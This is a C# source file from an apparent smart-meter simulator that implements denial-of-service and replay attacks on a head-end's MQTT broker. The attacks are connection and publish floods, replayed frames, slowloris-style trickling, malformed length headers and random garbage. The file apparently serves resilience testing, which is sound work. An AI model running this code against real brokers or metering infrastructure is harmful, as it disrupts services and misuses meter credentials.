using System.Net;
using System.Net.Sockets;
using System.Security.Cryptography;
using Meterline.Dlms.Wrapper;

namespace Meterline.Simulator.Attacks;

/// <summary>
/// Attacks a head-end's MQTT broker (<c>mqtt://host:port</c>, default 1883) with <see cref="AttackOptions.Connections"/>
/// TCP connections from the <see cref="AttackOptions.SourceAddresses"/> in turn, writing MQTT 5 by hand
/// (<see cref="MqttAttackPackets"/>) so that nothing a client library would refuse is out of reach:
/// <list type="bullet">
/// <item>flood with a meter (<see cref="AttackOptions.Meter"/> with its MQTT password): logs in as the meter and
/// PUBLISHes wrapper frames at QoS 1 to its <c>up</c> topic at <see cref="AttackOptions.Rate"/> in all, never waiting
/// for a PUBACK (they are read and dropped);</item>
/// <item>flood without a meter: CONNECTs with random credentials at the rate, each on a new connection;</item>
/// <item>replay: as the flood with a meter, re-publishing the captured <see cref="AttackOptions.Frames"/>;</item>
/// <item>idle connections: connect and never send CONNECT;</item>
/// <item>slow sender: a CONNECT one byte a second;</item>
/// <item>oversize announcement: a CONNECT fixed header announcing 256 MB (even connections) or a Remaining Length
/// running to a fifth byte, <c>FF FF FF FF 7F</c> (odd ones), then nothing;</item>
/// <item>garbage: 256-byte chunks of random bytes at the rate.</item>
/// </list>
/// Each connection the target closes is counted and opened again after a short pause, until the duration is over.
/// </summary>
public sealed class MqttAttackTransport(TimeProvider? time = null) : IAttackTransport
{
    /// <summary>The IANA port of MQTT over TCP.</summary>
    public const int DefaultPort = 1883;

    private static readonly TimeSpan ReplyTimeout = TimeSpan.FromSeconds(10);

    private readonly TimeProvider _time = time ?? TimeProvider.System;

    public string Scheme => "mqtt";

    public bool Supports(AttackKind kind) => Enum.IsDefined(kind);

    public async Task<AttackReport> RunAsync(AttackOptions options, CancellationToken cancellationToken = default)
    {
        ArgumentNullException.ThrowIfNull(options);
        options.Validate();
        if (options.Kind == AttackKind.Replay && (options.Frames.Count == 0 || options.Meter is null))
        {
            throw new ArgumentException("An MQTT replay needs captured frames and the meter whose credentials publish them.", nameof(options));
        }

        if (options.Meter is { MqttPassword: null } meter && options.Kind is AttackKind.Flood or AttackKind.Replay)
        {
            throw new ArgumentException($"Meter {meter.Id} has no MQTT password in its provisioning.", nameof(options));
        }

        var target = AttackSockets.Endpoint(options.Target.Port < 0 ? new UriBuilder(options.Target) { Port = DefaultPort }.Uri : options.Target);
        using var run = new AttackRun(options, _time, cancellationToken);
        using var frames = new AttackFrameSource(options, _time);
        using var connects = new SemaphoreSlim(TcpWrapperAttack.MaxConcurrentConnects);
        var perConnection = options.Rate / options.Connections;
        if (options.Kind == AttackKind.Flood && options.Meter is null)
        {
            return await run.LoopsAsync(options.Connections, index => ConnectFloodAsync(run, target, index, connects, perConnection)).ConfigureAwait(false);
        }

        return await run.LoopsAsync(options.Connections, index => ConnectionLoopAsync(run, target, index, connects, socket => options.Kind switch
        {
            AttackKind.Flood or AttackKind.Replay => PublishAsync(run, socket, options.Meter!, frames, perConnection),
            AttackKind.IdleConnections => HoldAsync(run, socket),
            AttackKind.SlowSender => TrickleAsync(run, socket),
            AttackKind.OversizeAnnouncement => AnnounceOversizeAsync(run, socket, overlong: index % 2 == 1),
            _ => SendGarbageAsync(run, socket, perConnection),
        })).ConfigureAwait(false);
    }

    /// <summary>Connects, runs <paramref name="attack"/> until the target closes the connection, and connects again, until the attack is over.</summary>
    private static async Task ConnectionLoopAsync(AttackRun run, IPEndPoint target, int index, SemaphoreSlim connects, Func<Socket, Task> attack)
    {
        var source = AttackSockets.SourceFor(run.Options.SourceAddresses, index);
        while (!run.Stopping.IsCancellationRequested)
        {
            using (var socket = await ConnectAsync(run, target, source, connects).ConfigureAwait(false))
            {
                if (socket is not null)
                {
                    try
                    {
                        await attack(socket).ConfigureAwait(false);
                    }
                    catch (Exception e) when (e is SocketException or ObjectDisposedException)
                    {
                        run.Counters.OnClosedByTarget();
                    }
                }
            }

            if (!await run.PauseAsync(TcpWrapperAttack.ReconnectPause).ConfigureAwait(false))
            {
                return;
            }
        }
    }

    /// <summary>CONNECTs with random credentials at <paramref name="rate"/>, each on a new connection, waiting for the refusal (CONNACK or close) of each.</summary>
    private static async Task ConnectFloodAsync(AttackRun run, IPEndPoint target, int index, SemaphoreSlim connects, double rate)
    {
        var source = AttackSockets.SourceFor(run.Options.SourceAddresses, index);
        var pacer = new AttackPacer(rate, run.Time);
        while (true)
        {
            var due = await pacer.WaitAsync(run.Stopping).ConfigureAwait(false);
            for (var i = 0; i < due; i++)
            {
                using var socket = await ConnectAsync(run, target, source, connects).ConfigureAwait(false);
                if (socket is null)
                {
                    continue;
                }

                try
                {
                    var name = Convert.ToHexString(RandomNumberGenerator.GetBytes(8));
                    await SendAsync(run, socket, MqttAttackPackets.Connect(name, name, Convert.ToBase64String(RandomNumberGenerator.GetBytes(16)))).ConfigureAwait(false);
                    run.Counters.OnSent();
                    using var reply = CancellationTokenSource.CreateLinkedTokenSource(run.Stopping);
                    reply.CancelAfter(ReplyTimeout);
                    await UntilClosedAsync(socket, reply.Token).ConfigureAwait(false);
                    run.Counters.OnClosedByTarget();
                }
                catch (Exception e) when (e is SocketException or ObjectDisposedException)
                {
                    run.Counters.OnClosedByTarget();
                }
                catch (OperationCanceledException) when (!run.Stopping.IsCancellationRequested)
                {
                    // The target neither answered nor closed in time: counted as an error, the next CONNECT goes on.
                    run.Counters.OnError();
                }
            }
        }
    }

    private static async Task<Socket?> ConnectAsync(AttackRun run, IPEndPoint target, IPAddress? source, SemaphoreSlim connects)
    {
        Socket? socket;
        await connects.WaitAsync(run.Stopping).ConfigureAwait(false);
        try
        {
            socket = await AttackSockets.ConnectAsync(target, source, run.Stopping).ConfigureAwait(false);
        }
        finally
        {
            connects.Release();
        }

        if (socket is null)
        {
            run.Counters.OnError();
        }
        else
        {
            run.Counters.OnOpened();
        }

        return socket;
    }

    /// <summary>Logs in as the meter, then publishes frames at the rate without waiting for PUBACKs (read and dropped meanwhile).</summary>
    private static async Task PublishAsync(AttackRun run, Socket socket, Provisioning.ProvisionedMeter meter, AttackFrameSource frames, double rate)
    {
        var title = meter.SystemTitle.ToString();
        await SendAsync(run, socket, MqttAttackPackets.Connect(title, title, meter.MqttPassword!)).ConfigureAwait(false);
        if (!await AcceptedAsync(run, socket).ConfigureAwait(false))
        {
            run.Counters.OnError();
            await run.PauseAsync(TimeSpan.FromSeconds(1)).ConfigureAwait(false);
            return;
        }

        var topic = $"meterline/{title}/up";
        var closed = WatchAsync(run, socket);
        var pacer = new AttackPacer(rate, run.Time);
        var buffer = new List<byte>();
        ushort packetId = 0;
        while (!closed.IsCompleted)
        {
            var due = await pacer.WaitAsync(run.Stopping).ConfigureAwait(false);
            buffer.Clear();
            for (var i = 0; i < due; i++)
            {
                packetId = packetId == ushort.MaxValue ? (ushort)1 : (ushort)(packetId + 1);
                buffer.AddRange(MqttAttackPackets.Publish(topic, packetId, new WrapperFrame(1, 1, frames.Next()).ToArray()));
            }

            await SendAsync(run, socket, buffer.ToArray()).ConfigureAwait(false);
            run.Counters.OnSent(due);
        }

        run.Counters.OnClosedByTarget();
    }

    /// <summary>Reads the CONNACK (§3.2): true when its reason code is Success.</summary>
    private static async Task<bool> AcceptedAsync(AttackRun run, Socket socket)
    {
        var header = new byte[4];
        using var reply = CancellationTokenSource.CreateLinkedTokenSource(run.Stopping);
        reply.CancelAfter(ReplyTimeout);
        try
        {
            var read = 0;
            while (read < header.Length)
            {
                var n = await socket.ReceiveAsync(header.AsMemory(read), SocketFlags.None, reply.Token).ConfigureAwait(false);
                if (n == 0)
                {
                    return false;
                }

                read += n;
            }
        }
        catch (OperationCanceledException) when (!run.Stopping.IsCancellationRequested)
        {
            return false;
        }

        // 0x20, a one-byte Remaining Length, the acknowledge flags, the reason code (the properties follow; the drain reads them).
        return header[0] == 0x20 && header[1] < 0x80 && header[3] == 0x00;
    }

    private static async Task HoldAsync(AttackRun run, Socket socket)
    {
        await UntilClosedAsync(socket, run.Stopping).ConfigureAwait(false);
        run.Counters.OnClosedByTarget();
    }

    private static async Task TrickleAsync(AttackRun run, Socket socket)
    {
        var closed = WatchAsync(run, socket);
        var name = Convert.ToHexString(RandomNumberGenerator.GetBytes(8));
        var connect = MqttAttackPackets.Connect(name, name, Convert.ToBase64String(RandomNumberGenerator.GetBytes(16)));
        run.Counters.OnSent();
        for (var i = 0; i < connect.Length - 1 && !closed.IsCompleted; i++)
        {
            await SendAsync(run, socket, connect.AsMemory(i, 1)).ConfigureAwait(false);
            if (!await run.PauseAsync(TimeSpan.FromSeconds(1)).ConfigureAwait(false))
            {
                return;
            }
        }

        await closed.ConfigureAwait(false);
        if (!run.Stopping.IsCancellationRequested)
        {
            run.Counters.OnClosedByTarget();
        }
    }

    private static async Task AnnounceOversizeAsync(AttackRun run, Socket socket, bool overlong)
    {
        await SendAsync(run, socket, overlong ? MqttAttackPackets.OverlongRemainingLength() : MqttAttackPackets.OversizeConnect()).ConfigureAwait(false);
        run.Counters.OnSent();
        await HoldAsync(run, socket).ConfigureAwait(false);
    }

    private static async Task SendGarbageAsync(AttackRun run, Socket socket, double rate)
    {
        var pacer = new AttackPacer(rate, run.Time);
        var chunk = new byte[256];
        while (true)
        {
            var due = await pacer.WaitAsync(run.Stopping).ConfigureAwait(false);
            for (var i = 0; i < due; i++)
            {
                RandomNumberGenerator.Fill(chunk);
                if (chunk[0] >> 4 == 1)
                {
                    // Never a CONNECT by chance.
                    chunk[0] = 0xF0;
                }

                await SendAsync(run, socket, chunk).ConfigureAwait(false);
            }

            run.Counters.OnSent(due);
        }
    }

    private static async Task UntilClosedAsync(Socket socket, CancellationToken cancellationToken)
    {
        var buffer = new byte[1024];
        while (await socket.ReceiveAsync(buffer, SocketFlags.None, cancellationToken).ConfigureAwait(false) > 0)
        {
        }
    }

    /// <summary>Reads (and drops) what the target sends until it closes the connection or the attack is over.</summary>
    private static Task WatchAsync(AttackRun run, Socket socket) => Task.Run(async () =>
    {
        try
        {
            await UntilClosedAsync(socket, run.Stopping).ConfigureAwait(false);
        }
        catch (Exception e) when (e is SocketException or ObjectDisposedException or OperationCanceledException)
        {
        }
    });

    private static async Task SendAsync(AttackRun run, Socket socket, ReadOnlyMemory<byte> bytes)
    {
        while (!bytes.IsEmpty)
        {
            var sent = await socket.SendAsync(bytes, SocketFlags.None, run.Stopping).ConfigureAwait(false);
            bytes = bytes[sent..];
        }
    }
}
